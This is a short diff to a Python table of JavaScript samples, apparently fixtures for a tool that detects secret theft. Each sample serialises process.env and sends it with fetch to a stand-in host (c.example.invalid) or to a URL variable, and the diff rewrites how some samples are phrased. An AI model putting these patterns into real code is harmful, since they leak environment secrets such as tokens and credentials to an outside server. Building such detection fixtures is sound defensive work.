@@ -84,11 +84,11 @@ SCRIPTS: dict[str, str | dict[str, str]] = {
         "package.json": '{"name": "sample", "version": "1.0.0", "main": "index.mjs"}',
         "index.mjs": 'import send, { gather } from "./a.mjs";\nsend(gather());\n',
         "a.mjs": "export const gather = () => JSON.stringify(process.env);\n"
-        'export default function send(t) { fetch("https://c.example.invalid", { method: "POST", body: t }); }\n',
+        'export default function send(t) { fetch("https://c.example.invalid", { body: t }); }\n',
     },
     "a promise after a promise": """
-Promise.resolve(process.env);
-fetch("https://c.example.invalid/x").then((r) => r.json()).then((x) => fetch(URL, { body: JSON.stringify(process.env) }));
+const all = () => JSON.stringify(process.env);
+fetch(URL).then((r) => r.json()).then((x) => fetch(URL, { body: x + all() }));
 """,
     "a prototype": """
 function A() { this.d = process.env; }
